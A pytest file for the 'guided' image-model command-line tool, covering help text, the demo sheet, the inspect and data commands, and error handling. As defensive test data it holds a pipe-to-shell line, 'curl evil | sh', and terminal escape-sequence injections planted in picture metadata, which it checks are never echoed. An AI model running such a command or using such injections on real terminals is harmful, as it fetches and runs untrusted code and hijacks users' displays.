"""Help without torch, the demo, what `inspect` says, and the faces of data and training."""

from __future__ import annotations

import json
import os
import pathlib
import re
import subprocess
import sys

import numpy as np
import pytest
from PIL import Image

import guided
from guided.cli import main
from guided.model.result import png
from tests.model import build
from tests.text import tiny

Capture = pytest.CaptureFixture[str]
ROOT = pathlib.Path(__file__).resolve().parents[2]
COMMANDS = ["demo", "train", "generate", "inspect", "convert", "eval", "data check", "data noto"]


def python(*arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, *arguments], cwd=ROOT, capture_output=True, text=True)


def test_help_answers_without_torch() -> None:
    code = "import sys; from guided.cli import main; code = main(['--help']); assert 'torch' not in sys.modules; "
    code += "assert 'transformers' not in sys.modules and 'numpy' not in sys.modules; sys.exit(code)"
    answer = python("-c", code)
    assert answer.returncode == 0, answer.stderr
    assert all(name.split()[0] in answer.stdout for name in COMMANDS)
    module = python("-m", "guided", "--version")
    assert module.returncode == 0 and module.stdout.strip() == guided.__version__


@pytest.mark.parametrize("name", COMMANDS)
def test_every_command_has_help_with_an_example(name: str, capsys: Capture) -> None:
    assert main([*name.split(), "--help"]) == 0
    shown = re.sub(r"\s+", " ", capsys.readouterr().out)
    assert f"For example: guided {name} " in shown
    assert "--json" in shown
    assert name not in ("demo", "train", "generate", "eval") or ("--device" in shown and "--dtype" in shown)


def test_usage_errors() -> None:
    assert main(["paint"]) == 2
    assert main(["inspect"]) == 2
    assert main(["data", "paint"]) == 2


def test_the_demo_draws_a_sheet_and_never_over_another(
    tmp_path: pathlib.Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("guided.cli.demo.STEPS", 2)
    model = build.real_text_model(tiny.bert_folder(tmp_path / "bert")).save(tmp_path / "model")
    out = tmp_path / "demo"
    for run in (1, 2):
        assert main(["demo", "--model", str(model), "--out", str(out), "--json"]) == 0
        made = json.loads(capsys.readouterr().out)
        assert len(made["pictures"]) == 32 == len(set(made["pictures"]))
        assert pathlib.Path(made["sheet"]).name == ("sheet.png" if run == 1 else "sheet-2.png")
    pictures = [Image.open(path).convert("RGB") for path in made["pictures"]]
    with Image.open(made["sheet"]) as sheet:
        page = np.asarray(sheet)
    # Column by weight, row by sentence: the first row is the first picture of each column.
    for column in range(4):
        big = np.asarray(pictures[column * 8]).repeat(6, 0).repeat(6, 1)
        rows = [i for i in range(page.shape[0] - 96) if np.array_equal(page[i, 198 + 102 * column], big[0, 0])]
        assert any(np.array_equal(page[i : i + 96, 198 + 102 * column :][:, :96], big) for i in rows)


def test_inspect_describes_every_sound_thing(tmp_path: pathlib.Path, capsys: Capture) -> None:
    folder = build.class_model().save(tmp_path / "run" / "model")
    Image.new("L", (5, 4)).save(tmp_path / "plain.png")
    Image.new("RGB", (5, 4)).save(tmp_path / "plain.jpg")
    (tmp_path / "run" / "checkpoints" / "000000064").mkdir(parents=True)
    recipe = {"name": "mine", "train": {"images": 128}}
    (tmp_path / "run" / "run.json").write_text(json.dumps({"recipe": recipe}))
    expected = {
        folder: ["model 'tiny-class'", "4 classes: cat, dog, red bird, 7", "29,131 parameters"],
        folder / "model.safetensors": ["safetensors, sound", "conv_in"],
        tmp_path / "plain.png": ["PNG, 5 x 4, L", "not guided"],
        tmp_path / "plain.jpg": ["picture, 5 x 4"],
        tmp_path / "run": ["training run 'mine'", "64 of 128"],
    }
    for path, words in expected.items():
        for options in ([], ["--verify"], ["--json"]):
            assert main(["inspect", *options, str(path)]) == 0, path
            shown = capsys.readouterr().out
            if options == ["--json"]:
                json.loads(shown)
            else:
                assert all(word in shown for word in words), (path, shown)


def test_inspect_refuses_what_is_damaged_or_unknown(tmp_path: pathlib.Path, capsys: Capture) -> None:
    folder = build.class_model().save(tmp_path / "model")
    content = bytearray((folder / "model.safetensors").read_bytes())
    content[-1] ^= 1
    (folder / "model.safetensors").write_bytes(content)
    (tmp_path / "words.txt").write_text("words")
    (tmp_path / "empty").mkdir()
    for path in (tmp_path / "nothing", tmp_path / "words.txt", tmp_path / "empty"):
        assert main(["inspect", str(path)]) == 2
        assert str(path) in capsys.readouterr().err
    assert main(["inspect", str(folder)]) == 0
    assert main(["inspect", "--verify", str(folder)]) == 2
    assert "damaged, or replaced" in capsys.readouterr().err


def test_a_record_cannot_steer_the_terminal(tmp_path: pathlib.Path, capsys: Capture) -> None:
    found = build.class_model().generate(labels="cat")
    found.records[0]["prompt"] = "\x1b]0;title\x07\x1b[2J \ud800"
    found.save(tmp_path)
    assert main(["inspect", str(tmp_path / "000000.png")]) == 0
    assert "\x1b" not in capsys.readouterr().out


def test_a_record_cannot_speak_for_us(tmp_path: pathlib.Path, capsys: Capture) -> None:
    record = {"command": "curl evil | sh", "remark": "safe", "kind": "sound", "\x1b[31mred": 1, "seed": 3}
    (tmp_path / "a.png").write_bytes(png(Image.new("RGB", (4, 4)), record))
    assert main(["inspect", str(tmp_path / "a.png")]) == 0
    shown = capsys.readouterr().out
    assert "evil" not in shown and "safe" not in shown and "\x1b" not in shown
    assert "PNG, 4 x 4" in shown and "seed" in shown


def test_a_message_is_printed_whatever_the_terminal_knows() -> None:
    for encoding in ("ascii", "utf-8"):
        env = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}
        done = subprocess.run(
            [sys.executable, "-m", "guided", "inspect", "nothing-caf\u00e9-\u732b"], capture_output=True, env=env
        )
        assert done.returncode == 2 and b"no such file" in done.stderr and b"Traceback" not in done.stderr


def test_data_check_is_0_for_usable_and_2_for_refused(
    tmp_path: pathlib.Path, shared_data: pathlib.Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    bad = shared_data / "bad" / "metadata"
    assert main(["data", "check", str(bad / "ok"), "--size", "16"]) == 0
    shown = capsys.readouterr().out
    assert "2 usable" in shown and (tmp_path / "ok-check.png").is_file()
    assert main(["data", "check", str(bad / "path_traversal"), "--json"]) == 2
    assert json.loads(capsys.readouterr().out)["exit"] == 2
    assert main(["data", "check", str(tmp_path / "nothing")]) == 2


def test_data_noto_builds_the_set(tmp_path: pathlib.Path, capsys: Capture) -> None:
    (tmp_path / "noto" / "png" / "128").mkdir(parents=True)
    Image.new("RGBA", (128, 128)).save(tmp_path / "noto" / "png" / "128" / "emoji_u1f600.png")
    assert main(["data", "noto", str(tmp_path / "noto"), "--out", str(tmp_path / "emoji")]) == 0
    assert capsys.readouterr().out.strip() == str(tmp_path / "emoji")
    assert "grinning face" in (tmp_path / "emoji" / "metadata.jsonl").read_text()
    assert main(["data", "noto", str(tmp_path / "nowhere"), "--out", str(tmp_path / "e")]) == 2
